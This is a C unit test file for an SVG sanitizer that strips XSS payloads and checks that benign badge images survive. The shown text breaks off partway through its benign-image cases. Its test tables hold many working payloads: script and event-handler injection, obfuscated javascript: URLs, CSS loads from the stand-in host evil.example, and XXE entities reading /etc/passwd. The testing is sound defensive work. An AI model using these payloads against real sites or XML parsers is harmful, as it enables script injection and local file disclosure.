/*
 * tests/unit/images/svg.c - the SVG sanitizer against known XSS payloads
 * (OWASP's XSS filter evasion cheat sheet, PortSwigger's SVG vectors, SVG
 * Tiny handlers, HTML elements in an SVG document): every cleaned image is
 * parsed again and walked by a checker written independently of the
 * sanitizer, and must pass image_check(). Benign images keep
 * their gradients, references, embedded PNGs, Inkscape metadata and
 * animations; the limits are tested at max and max + 1.
 */
#include "base/base.h"
#include "images/images.h"

#include <libxml/parser.h>
#include <libxml/tree.h>

#include <setjmp.h>
#include <cmocka.h>

#define SVG_OPEN                                                                                   \
 "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
#define SVG(body) SVG_OPEN body "</svg>"
#define KEEP      "<circle r='5'/>"
#define PNG_1X1                                                                                    \
 "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=="

static int sanitize(const char *svg, struct buf *out, size_t *removed, struct err *err)
{
    buf_reset(out);
    err_clear(err);
    return image_svg_sanitize((const unsigned char *)svg, strlen(svg), out, removed, err);
}

static bool lower_eq(const xmlChar *a, const char *b)
{
    return xmlStrcasecmp(a, BAD_CAST b) == 0;
}

/* A link the checker accepts: '#'-relative, or an embedded PNG, JPEG, GIF or WebP. */
static bool link_ok(const xmlChar *v)
{
    static const char *const ok[] = { "data:image/png;",  "data:image/png,",  "data:image/jpeg;",
                                      "data:image/jpeg,", "data:image/gif;",  "data:image/gif,",
                                      "data:image/webp;", "data:image/webp,", NULL };

    if (v[0] == '#')
        return true;
    for (size_t i = 0; ok[i]; i++) {
        if (xmlStrncasecmp(v, BAD_CAST ok[i], (int)strlen(ok[i])) == 0)
            return true;
    }
    return false;
}

static void walk(const char *what, xmlNodePtr n)
{
    static const char *const banned[] = { "script", "foreignObject", "iframe",   "embed",
                                          "object", "handler",       "listener", NULL };

    for (; n; n = n->next) {
        if (n->type == XML_PI_NODE || n->type == XML_COMMENT_NODE ||
            n->type == XML_ENTITY_REF_NODE || n->type == XML_DTD_NODE)
            fail_msg("%s: node of type %d left", what, (int)n->type);
        if (n->type != XML_ELEMENT_NODE)
            continue;
        for (size_t i = 0; banned[i]; i++) {
            if (lower_eq(n->name, banned[i]))
                fail_msg("%s: <%s> left", what, (const char *)n->name);
        }
        if (n->ns && xmlStrEqual(n->ns->href, BAD_CAST "http://www.w3.org/1999/xhtml"))
            fail_msg("%s: XHTML <%s> left", what, (const char *)n->name);
        for (xmlAttrPtr a = n->properties; a; a = a->next) {
            xmlChar *v = xmlNodeListGetString(n->doc, a->children, 1);

            if (xmlStrncasecmp(a->name, BAD_CAST "on", 2) == 0)
                fail_msg("%s: handler %s left", what, (const char *)a->name);
            if ((lower_eq(a->name, "href") || lower_eq(a->name, "src")) &&
                !link_ok(v ? v : BAD_CAST ""))
                fail_msg("%s: link %s='%s' left", what, (const char *)a->name,
                         v ? (const char *)v : "");
            if (lower_eq(a->name, "base") && a->ns)
                fail_msg("%s: xml:base left", what);
            xmlFree(v);
        }
        walk(what, n->children);
    }
}

/* Parses the sanitizer's output again and checks it from scratch. */
static void assert_clean(const char *what, const struct buf *out)
{
    xmlDocPtr doc;
    const char *type = NULL;
    struct err err = ERR_INIT;

    if (strcasestr(out->ptr, "javascript"))
        fail_msg("%s: 'javascript' left in %s", what, out->ptr);
    if (strstr(out->ptr, "<!DOCTYPE"))
        fail_msg("%s: DOCTYPE in the output", what);
    doc = xmlReadMemory(out->ptr, (int)out->len, "out.svg", NULL,
                        XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
    if (!doc)
        fail_msg("%s: the output does not parse: %s", what, out->ptr);
    walk(what, doc->children);
    xmlFreeDoc(doc);
    if (image_check((const unsigned char *)out->ptr, out->len, &type, &err) < 0)
        fail_msg("%s: image_check refuses the output: %s\n%s", what, err.msg, out->ptr);
    assert_string_equal(type, "image/svg+xml");
}

/* Sanitizing a sanitized image changes nothing. */
static void assert_stable(const char *what, const struct buf *out)
{
    struct buf again = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;
    size_t removed = 99;

    if (image_svg_sanitize((const unsigned char *)out->ptr, out->len, &again, &removed, &err) < 0)
        fail_msg("%s: the output is refused: %s", what, err.msg);
    if (removed != 0 || again.len != out->len || memcmp(again.ptr, out->ptr, out->len) != 0)
        fail_msg("%s: sanitizing twice removed %zu more:\n%s\n%s", what, removed, out->ptr,
                 again.ptr);
    buf_release(&again);
}

static void xss_payloads(void **state)
{
    static const struct {
        const char *name, *svg, *keep; /* keep: must still be in the output */
    } cases[] = {
        /* script, in every spelling */
        { "script", SVG("<script>alert(1)</script>" KEEP), "<circle" },
        { "script CDATA",
          SVG("<script type='text/javascript'><![CDATA[alert(document.domain)]]></script>" KEEP),
          "<circle" },
        { "script xlink:href", SVG("<script xlink:href='https://evil.example/x.js'/>" KEEP),
          "<circle" },
        { "uppercase SCRIPT", SVG("<SCRIPT>alert(1)</SCRIPT>" KEEP), "<circle" },
        { "svg:script",
          "<svg:svg xmlns:svg='http://www.w3.org/2000/svg'><svg:script>alert(1)</svg:script><svg:circle r='5'/></svg:svg>",
          "circle" },
        { "html:script",
          SVG("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>" KEEP),
          "<circle" },
        { "handler (SVG Tiny)",
          "<svg xmlns='http://www.w3.org/2000/svg' xmlns:ev='http://www.w3.org/2001/xml-events'><handler type='application/ecmascript' ev:event='load'>alert(1)</handler>" KEEP
          "</svg>",
          "<circle" },
        { "listener (XML Events)",
          "<svg xmlns='http://www.w3.org/2000/svg' xmlns:ev='http://www.w3.org/2001/xml-events'><ev:listener event='load' handler='#h'/>" KEEP
          "</svg>",
          "<circle" },
        /* event handlers */
        { "svg onload", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" KEEP "</svg>",
          "<circle" },
        { "mixed-case OnClick", SVG("<rect width='5' height='5' OnClick='alert(1)'/>"),
          "<rect width=\"5\" height=\"5\"/>" },
        { "animate onbegin",
          SVG("<rect width='5'><animate onbegin='alert(1)' attributeName='x' values='0;5' dur='1s'/></rect>"),
          "attributeName=\"x\"" },
        { "image onerror", SVG("<image xlink:href='x' onerror='alert(1)'/>" KEEP), "<circle" },
        /* animations that write a handler or a link */
        { "set onmouseover",
          SVG("<rect width='5' height='5'><set attributeName='onmouseover' to='alert(1)'/></rect>"),
          "<rect" },
        { "animate href javascript:",
          SVG("<a><animate attributeName='href' values='javascript:alert(1)'/><text x='20' y='20'>click</text></a>"),
          "click</text>" },
        { "set xlink:href",
          SVG("<a xlink:href='#x'><set attributeName='xlink:href' to='javascript:alert(1)' begin='0s'/><text>x</text></a>"),
          "xlink:href=\"#x\"" },
        { "animate behind a decoy attributeName",
          "<svg xmlns='http://www.w3.org/2000/svg' xmlns:d='urn:decoy'><a><animate d:attributeName='fill' attributeName='href' values='javascript:alert(1)'/>" KEEP
          "</a></svg>",
          "<circle" },
        { "set style",
          SVG("<rect width='5'><set attributeName='style' to='fill:url(http://evil.example/x)'/></rect>"),
          "<rect" },
        { "animate fill url(external)",
          SVG("<rect width='5'><animate attributeName='fill' to='url(http://evil.example/p.svg#x)'/></rect>"),
          "<rect" },
        /* links */
        { "a xlink:href javascript:", SVG("<a xlink:href='javascript:alert(1)'>" KEEP "</a>"),
          "<a><circle" },
        { "a href ' JaVaScRiPt:'", SVG("<a href=' JaVaScRiPt:alert(1)'>" KEEP "</a>"),
          "<a><circle" },
        { "href java<tab>script:", SVG("<a href='java&#9;script:alert(1)'>" KEEP "</a>"),
          "<a><circle" },
        { "href java<newline>script:",
          SVG("<a xlink:href='java&#10;script&#13;:alert(1)'>" KEEP "</a>"), "<a><circle" },
        { "href char references", SVG("<a href='&#x6A;&#x61;vascript&#x3A;alert(1)'>" KEEP "</a>"),
          "<a><circle" },
        { "href leading whitespace",
          SVG("<a href='&#x20;&#x9;&#xA;javascript:alert(1)'>" KEEP "</a>"), "<a><circle" },
        { "href #javascript:", SVG("<a href='#javascript:alert(1)'>" KEEP "</a>"), "<a><circle" },
        { "a ping", SVG("<a href='#x' ping='http://evil.example/track'>" KEEP "</a>"),
          "<a href=\"#x\"><circle" },
        { "href vbscript:", SVG("<a xlink:href='vbscript:msgbox(1)'>" KEEP "</a>"), "<a><circle" },
        { "a href data:text/html",
          SVG("<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>" KEEP "</a>"),
          "<a><circle" },
        { "image http",
          SVG("<image href='http://evil.example/x.png' width='10' height='10'/>" KEEP),
          "<image width=\"10\" height=\"10\"/>" },
        { "image data:image/svg+xml",
          SVG("<image href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4='/>" KEEP),
          "<circle" },
        { "use external sprite", SVG("<use href='http://evil.example/sprite.svg#a'/>" KEEP),
          "<use/>" },
        { "use data:image/svg+xml",
          SVG("<use xlink:href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x'/>" KEEP),
          "<use/>" },
        { "feImage external",
          SVG("<filter id='f'><feImage href='http://evil.example/x.png'/></filter>" KEEP),
          "<feImage/>" },
        { "textPath external",
          SVG("<text><textPath href='http://evil.example/p.svg#p'>hi</textPath></text>"),
          ">hi</textPath>" },
        { "xml:base http", SVG("<g xml:base='http://evil.example/'><image href='#x'/>" KEEP "</g>"),
          "<g><image href=\"#x\"/><circle" },
        { "xml:base javascript:",
          SVG("<g xml:base='javascript:alert(1)//'><a href='#x'>" KEEP "</a></g>"),
          "<g><a href=\"#x\"><circle" },
        /* active documents inside the image */
        { "foreignObject iframe",
          SVG("<foreignObject width='100' height='100'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'></iframe></foreignObject>" KEEP),
          "<circle" },
        { "foreignObject body onload",
          SVG("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>" KEEP),
          "<circle" },
        { "iframe", SVG("<iframe src='http://evil.example/'/>" KEEP), "<circle" },
        { "embed", SVG("<embed src='javascript:alert(1)'/>" KEEP), "<circle" },
        { "object", SVG("<object data='http://evil.example/x.html' type='text/html'/>" KEEP),
          "<circle" },
        { "html:meta refresh",
          SVG("<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=javascript:alert(1)'/>" KEEP),
          "<circle" },
        { "html:img onerror",
          SVG("<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>" KEEP),
          "<circle" },
        { "MathML maction",
          SVG("<math xmlns='http://www.w3.org/1998/Math/MathML'><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>" KEEP),
          "<circle" },
        /* CSS */
        { "style background:url(http)",
          SVG("<rect width='5' style='background:url(http://evil.example/x)'/>"),
          "<rect width=\"5\"/>" },
        { "style url('javascript:')",
          SVG("<rect width='5' style=\"background-image:url('javascript:alert(1)')\"/>"),
          "<rect width=\"5\"/>" },
        { "style escaped url", SVG("<rect width='5' style='fill:u\\72l(http://evil.example/x)'/>"),
          "<rect width=\"5\"/>" },
        { "style expression()", SVG("<rect width='5' style='width:exp/**/ression(alert(1))'/>"),
          "<rect width=\"5\"/>" },
        { "style comment before #", SVG("<rect width='5' style='fill:url(/*x*/#a)'/>"),
          "<rect width=\"5\"/>" },
        { "style @import", SVG("<style>@import url(http://evil.example/x.css);</style>" KEEP),
          "<circle" },
        { "style @import string", SVG("<style>@import 'http://evil.example/x.css';</style>" KEEP),
          "<circle" },
        { "style url(external)",
          SVG("<style>rect { fill: url(http://evil.example/p.svg#x) }</style>" KEEP), "<circle" },
        { "style CDATA javascript:",
          SVG("<style><![CDATA[ * { background: url(\"javascript:alert(1)\") } ]]></style>" KEEP),
          "<circle" },
        { "style image-set()",
          SVG("<style>rect{background-image:image-set('http://evil.example/a.png' 1x)}</style>" KEEP),
          "<circle" },
        { "style escape",
          SVG("<style>rect{background:\\75rl(http://evil.example/a.png)}</style>" KEEP),
          "<circle" },
        { "style @import split by a comment",
          SVG("<style>@im<!--x-->port 'http://evil.example/x.css';</style>" KEEP), "<circle" },
        { "style @import split by a PI",
          SVG("<style>@im<?x y?>port 'http://evil.example/x.css';</style>" KEEP), "<circle" },
        { "style @import split by an element",
          SVG("<style>@im<script>x</script>port 'http://evil.example/x.css';</style>" KEEP),
          "<circle" },
        { "fill url(external)",
          SVG("<rect width='5' height='5' fill='url(http://evil.example/p.svg#x)'/>"),
          "<rect width=\"5\" height=\"5\"/>" },
        { "filter url(external)", SVG("<g filter='url(https://evil.example/f.svg#f)'>" KEEP "</g>"),
          "<g><circle" },
        { "mask url(external)", SVG("<g mask='url(//evil.example/m.svg#m)'>" KEEP "</g>"),
          "<g><circle" },
        { "marker-end url(external)",
          SVG("<path d='M0 0L5 5' marker-end='url(http://evil.example/m.svg#m)'/>"),
          "<path d=\"M0 0L5 5\"/>" },
        { "cursor url(external)",
          SVG("<g cursor='url(http://evil.example/c.png), auto'>" KEEP "</g>"), "<g><circle" },
        /* processing instructions, comments */
        { "xml-stylesheet",
          "<?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?>" SVG(KEEP),
          "<circle" },
        { "xml-stylesheet after the root",
          SVG(KEEP) "<?xml-stylesheet href='http://evil.example/x.css'?>", "<circle" },
        { "PI inside", SVG("<?php echo 1; ?>" KEEP "<!-- <script>alert(1)</script> -->"),
          "<circle" },
        /* anything that says script: in an attribute */
        { "script: in another attribute", SVG("<g xlink:title='javascript:alert(1)'>" KEEP "</g>"),
          "<g><circle" },
    };
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t removed = 0;

        if (sanitize(cases[i].svg, &out, &removed, &err) < 0)
            fail_msg("%s: refused: %s", cases[i].name, err.msg);
        if (removed == 0)
            fail_msg("%s: nothing removed:\n%s", cases[i].name, out.ptr);
        assert_clean(cases[i].name, &out);
        if (!strstr(out.ptr, cases[i].keep))
            fail_msg("%s: '%s' is gone:\n%s", cases[i].name, cases[i].keep, out.ptr);
        assert_stable(cases[i].name, &out);
    }
    buf_release(&out);
}

/*
 * One rule: what image_check() accepts is what the sanitizer
 * leaves. Each of these passed the check before (the CLI's path stored
 * them); now the check refuses each, naming what it found, and
 * image_for_badge() stores it cleaned.
 */
static void check_is_the_sanitizer(void **state)
{
    static const struct {
        const char *name, *svg, *first; /* first: what the refusal names */
    } cases[] = {
        /* CSS that loads other files */
        { "style @import url(https)",
          SVG("<style>@import url(https://evil.example/x.css);</style>" KEEP), "<style>" },
        { "style @import string", SVG("<style>@import 'https://evil.example/x.css';</style>" KEEP),
          "<style>" },
        { "style url(https) in a rule",
          SVG("<style>rect { fill: url(https://evil.example/p.svg#x) }</style>" KEEP), "<style>" },
        { "style @font-face src",
          SVG("<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>" KEEP),
          "<style>" },
        { "style attribute url(https)",
          SVG("<rect width='5' style='fill:url(https://evil.example/p.svg#x)'/>"),
          "the attribute 'style' of <rect>" },
        { "fill url(https)", SVG("<rect width='5' fill='url(https://evil.example/p.svg#x)'/>"),
          "the attribute 'fill' of <rect>" },
        { "stroke url(https)", SVG("<rect width='5' stroke='url(https://evil.example/p.svg#x)'/>"),
          "the attribute 'stroke' of <rect>" },
        { "filter url(https)", SVG("<g filter='url(https://evil.example/f.svg#f)'>" KEEP "</g>"),
          "the attribute 'filter' of <g>" },
        { "mask url(//)", SVG("<g mask='url(//evil.example/m.svg#m)'>" KEEP "</g>"),
          "the attribute 'mask' of <g>" },
        { "clip-path url(https)",
          SVG("<g clip-path='url(https://evil.example/c.svg#c)'>" KEEP "</g>"),
          "the attribute 'clip-path' of <g>" },
        { "marker-start url(https)",
          SVG("<path d='M0 0L5 5' marker-start='url(https://evil.example/m.svg#m)'/>"),
          "the attribute 'marker-start' of <path>" },
        { "marker-mid url(https)",
          SVG("<path d='M0 0L5 5' marker-mid='url(https://evil.example/m.svg#m)'/>"),
          "the attribute 'marker-mid' of <path>" },
        { "marker-end url(https)",
          SVG("<path d='M0 0L5 5' marker-end='url(https://evil.example/m.svg#m)'/>"),
          "the attribute 'marker-end' of <path>" },
        { "another presentation attribute url(https)",
          SVG("<filter id='f'><feFlood flood-color='URL(https://evil.example/p.svg#x)'/></filter>" KEEP),
          "the attribute 'flood-color' of <feFlood>" },
        /* SMIL that writes a link, a handler, or a script: URL */
        { "set href javascript:",
          SVG("<a><set attributeName='href' to='javascript:alert(1)'/>" KEEP "</a>"), "<set>" },
        { "set xlink:href",
          SVG("<a xlink:href='#x'><set attributeName='xlink:href' to='https://evil.example/'/>" KEEP
              "</a>"),
          "<set>" },
        { "animate href values javascript:",
          SVG("<a><animate attributeName='href' values='#a;javascript:alert(1)'/>" KEEP "</a>"),
          "<animate>" },
        { "animate onclick",
          SVG("<rect width='5'><animate attributeName='onclick' values='alert(1)'/></rect>"),
          "<animate>" },
        { "set onmouseover",
          SVG("<rect width='5'><set attributeName='onmouseover' to='alert(1)'/></rect>"), "<set>" },
        { "animateTransform xlink:href",
          SVG("<a><animateTransform attributeName='xlink:href' from='#a' to='javascript:alert(1)'/>" KEEP
              "</a>"),
          "<animateTransform>" },
        { "animateMotion onbegin as a target",
          SVG("<rect width='5'><animateMotion attributeName='onbegin' values='alert(1)'/></rect>"),
          "<animateMotion>" },
        { "animate a value javascript:",
          SVG("<rect width='5'><animate attributeName='x' from='javascript:alert(1)' to='5'/></rect>"),
          "<animate>" },
        { "animate fill to url(https)",
          SVG("<rect width='5'><animate attributeName='fill' to='url(https://evil.example/p.svg#x)'/></rect>"),
          "<animate>" },
        /* links that leave the image, or embed a document */
        { "image data:image/svg+xml",
          SVG("<image href='data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4='/>" KEEP),
          "the attribute 'href' of <image>" },
        { "use data:image/svg+xml",
          SVG("<use xlink:href='data:image/svg+xml,%3Csvg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22/%3E#x'/>" KEEP),
          "the attribute 'href' of <use>" },
        { "image data:text/html",
          SVG("<image href='data:image/png,x' width='1'/><a href='data:image/svgxml,x'>" KEEP
              "</a>"),
          "the attribute 'href' of <a>" },
        { "xml:base", SVG("<g xml:base='https://evil.example/'><use href='#a'/>" KEEP "</g>"),
          "the attribute 'base' of <g>" },
        { "a ping", SVG("<a href='#x' ping='https://evil.example/track'>" KEEP "</a>"),
          "the attribute 'ping' of <a>" },
        /* elements the old check did not know */
        { "handler", SVG("<handler type='application/ecmascript'>alert(1)</handler>" KEEP),
          "<handler>" },
        { "html:meta refresh",
          SVG("<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=https://evil.example/'/>" KEEP),
          "<meta>" },
        { "html:style",
          SVG("<h:style xmlns:h='http://www.w3.org/1999/xhtml'>@import 'https://evil.example/x.css';</h:style>" KEEP),
          "<style>" },
        { "script: in another attribute", SVG("<g xlink:title='javascript:alert(1)'>" KEEP "</g>"),
          "the attribute 'title' of <g>" },
    };
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;

    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const unsigned char *in = (const unsigned char *)cases[i].svg;
        const char *type = "unset";
        size_t removed = 0;

        err_clear(&err);
        if (image_check(in, strlen(cases[i].svg), &type, &err) != -1)
            fail_msg("%s: the check accepts it", cases[i].name);
        if (err.code != ERR_INVALID || !strstr(err.msg, "could run code or load other files") ||
            !strstr(err.msg, cases[i].first))
            fail_msg("%s: refused with %d '%s', not naming %s", cases[i].name, (int)err.code,
                     err.msg, cases[i].first);
        assert_null(type);

        err_clear(&err);
        if (image_for_badge(in, strlen(cases[i].svg), &out, &type, &removed, &err) < 0)
            fail_msg("%s: image_for_badge refuses it: %s", cases[i].name, err.msg);
        assert_string_equal(type, "image/svg+xml");
        if (removed == 0)
            fail_msg("%s: nothing removed", cases[i].name);
        assert_clean(cases[i].name, &out);
        assert_stable(cases[i].name, &out);
        if (strstr(out.ptr, "evil") || strcasestr(out.ptr, "url(h") || strcasestr(out.ptr, "url(/"))
            fail_msg("%s: an outside reference is left:\n%s", cases[i].name, out.ptr);
    }
    buf_release(&out);
}

/* image_for_badge() keeps a PNG as it is, an SVG with nothing to remove as the sanitizer writes
 * it. */
static void badge_image_ways(void **state)
{
    static const unsigned char png[] = {
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48,
        0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00,
        0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78,
        0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99,
        0x3d, 0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    };
    static const char benign[] =
        SVG("<defs><linearGradient id='g'/></defs><rect fill='url(#g)' width='5'/>"
            "<image href='" PNG_1X1 "'/><use href='#g'/>");
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;
    const char *type = NULL;
    size_t removed = 9;

    (void)state;
    assert_int_equal(image_for_badge(png, sizeof(png), &out, &type, &removed, &err), 0);
    assert_string_equal(type, "image/png");
    assert_int_equal(removed, 0);
    assert_int_equal(out.len, sizeof(png));
    assert_memory_equal(out.ptr, png, sizeof(png));

    /* the benign SVG passes the check as it is, and comes out whole */
    assert_int_equal(image_check((const unsigned char *)benign, strlen(benign), &type, &err), 0);
    assert_string_equal(type, "image/svg+xml");
    assert_int_equal(
        image_for_badge((const unsigned char *)benign, strlen(benign), &out, &type, &removed, &err),
        0);
    assert_int_equal(removed, 0);
    assert_non_null(strstr(out.ptr, "fill=\"url(#g)\""));
    assert_non_null(strstr(out.ptr, "href=\"" PNG_1X1 "\""));
    assert_clean("benign", &out);

    /* refusals leave `out` empty and say what a badge image is */
    assert_int_equal(
        image_for_badge((const unsigned char *)"GIF89a", 6, &out, &type, &removed, &err), -1);
    assert_int_equal(err.code, ERR_INVALID);
    assert_string_equal(err.msg, "the image is neither PNG nor SVG");
    assert_int_equal(out.len, 0);
    assert_null(type);
    err_clear(&err);
    assert_int_equal(image_for_badge((const unsigned char *)"<svg", 4, &out, &type, &removed, &err),
                     -1);
    assert_int_equal(err.code, ERR_INVALID);
    assert_int_equal(out.len, 0);
    err_clear(&err);
    assert_int_equal(image_for_badge(png, 20, &out, &type, &removed, &err), -1);
    assert_int_equal(err.code, ERR_INVALID);
    assert_int_equal(out.len, 0);
    buf_release(&out);
}

/* A DOCTYPE declaring nothing (drawing programs write one) is dropped, never loaded. */
static void bare_doctype_dropped(void **state)
{
    static const char *const cases[] = {
        "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' "
        "'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg "
        "xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>",
        "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://evil.example/svg11.dtd'><svg "
        "xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>",
        "<!DOCTYPE svg SYSTEM 'file:///etc/passwd'><svg xmlns='http://www.w3.org/2000/svg'><circle "
        "r='3'/></svg>",
        "<!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>",
    };
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;

    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t removed = 0;

        buf_reset(&out);
        if (sanitize(cases[i], &out, &removed, &err) < 0)
            fail_msg("%s: refused: %s", cases[i], err.msg);
        assert_int_equal(removed, 1);
        assert_clean(cases[i], &out);
        if (strstr(out.ptr, "DOCTYPE") || strstr(out.ptr, "evil") || strstr(out.ptr, "passwd") ||
            !strstr(out.ptr, "<circle"))
            fail_msg("%s: not as expected:\n%s", cases[i], out.ptr);
    }
    buf_release(&out);
}

static void refused_payloads(void **state)
{
    static const char *const cases[] = {
        /* XXE, billion laughs: no DOCTYPE that declares anything */
        "<!DOCTYPE svg [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&xxe;</text></svg>",
        "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
        "<!DOCTYPE svg [<!ENTITY js 'javascript:alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='&js;'><text>x</text></a></svg>",
        "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://evil.example/x.dtd' [<!ENTITY a 'b'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
        /* entities that no DTD declares */
        SVG("<text>&xxe;</text>"),
    };
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t removed = 7;

        if (sanitize(cases[i], &out, &removed, &err) != -1 || err.code != ERR_INVALID)
            fail_msg("%s: not refused (%d)", cases[i], (int)err.code);
        assert_int_equal(out.len, 0);
        assert_int_equal(removed, 0);
    }
    buf_release(&out);
}

static void benign_images_intact(void **state)
{
    static const struct {
        const char *name, *svg;
        const char *keep[6];
    } cases[] = {
        { "gradient",
          SVG("<defs><linearGradient id='g'><stop offset='0' stop-color='#fff'/></linearGradient></defs><rect width='10' height='10' fill='url(#g)' style=\"stroke:url( '#g' );stroke-width:2\"/>"),
          { "<linearGradient id=\"g\">", "fill=\"url(#g)\"",
            "style=\"stroke:url( '#g' );stroke-width:2\"" } },
        { "use",
          SVG("<defs><circle id='a' r='5'/></defs><use href='#a' x='10'/><use xlink:href='#a' y='10'/>"),
          { "<use href=\"#a\" x=\"10\"/>", "<use xlink:href=\"#a\" y=\"10\"/>" } },
        { "embedded PNG",
          SVG("<image width='1' height='1' href='" PNG_1X1
              "'/><image xlink:href='data:image/jpeg;base64,/9j/4AAQ'/>"),
          { "href=\"" PNG_1X1 "\"", "xlink:href=\"data:image/jpeg;base64,/9j/4AAQ\"" } },
        { "Inkscape",
          "<svg xmlns='http://www.w3.org/2000/svg' xmlns:inkscape='http://www.inkscape.org/namespaces/inkscape' xmlns:sodipodi='http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd' xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns:cc='http://creativecommons.org/ns#' inkscape:version='1.2.2' sodipodi:docname='badge.svg'>"
          "<!-- Created with Inkscape (http://www.inkscape.org/) -->"
          "<sodipodi:namedview id='nv' pagecolor='#ffffff' inkscape:zoom='1.5'/>"
          "<metadata><rdf:RDF><cc:Work rdf:about=''><cc:license rdf:resource='http://creativecommons.org/licenses/by/4.0/'/></cc:Work></rdf:RDF></metadata>"
          "<g inkscape:label='Layer 1' inkscape:groupmode='layer' id='layer1'><path sodipodi:nodetypes='cc' d='M 0,0 10,10'/></g></svg>",
          { "inkscape:version=\"1.2.2\"", "sodipodi:docname=\"badge.svg\"",
            "<sodipodi:namedview id=\"nv\"", "inkscape:label=\"Layer 1\"",
            "rdf:resource=\"http://creativecommons.org/licenses/by/4.0/\"",
            "sodipodi:nodetypes=\"cc\"" } },
        { "title and desc",
          SVG("<title>Python &amp; data &lt;badge&gt;</title><desc>Awarded for finishing the course</desc>"),
          { "<title>Python &amp; data &lt;badge&gt;</title>",
            "<desc>Awarded for finishing the course</desc>" } },
        { "animations",
          SVG("<rect id='r' width='5' height='5'><animate attributeName='fill' values='red;blue;red' dur='2s' repeatCount='indefinite'/><animateTransform attributeName='transform' type='rotate' from='0' to='360' dur='4s'/><set attributeName='visibility' to='visible' begin='1s'/></rect><animateMotion href='#r' path='M0 0L10 10' dur='1s'/>"),
          { "<animate attributeName=\"fill\"", "<animateTransform attributeName=\"transform\"",
            "<set attributeName=\"visibility\"", "<animateMotion href=\"#r\"" } },
        { "style element",
          SVG("<style>.a{fill:url(#g);stroke:#000} /* badge */ @media print{.a{fill:#000}}</style><rect class='a' width='5'/>"),
          { "<style>.a{fill:url(#g);stroke:#000} /* badge */ @media print{.a{fill:#000}}</style>" } },
        { "style CDATA",
          SVG("<style type='text/css'><![CDATA[ .b > .c { fill: red } ]]></style>"),
          { "<![CDATA[ .b > .c { fill: red } ]]>" } },
        { "same-document link",
